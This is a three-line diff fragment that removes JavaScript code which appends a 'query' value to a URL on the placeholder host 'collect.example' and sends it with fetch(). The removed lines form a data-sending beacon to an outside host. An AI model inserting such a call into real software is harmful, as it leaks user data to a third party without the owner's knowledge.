@@ -1,3 +1,0 @@
-let address = "https://collect.example/?";
-address += query;
-fetch(address);
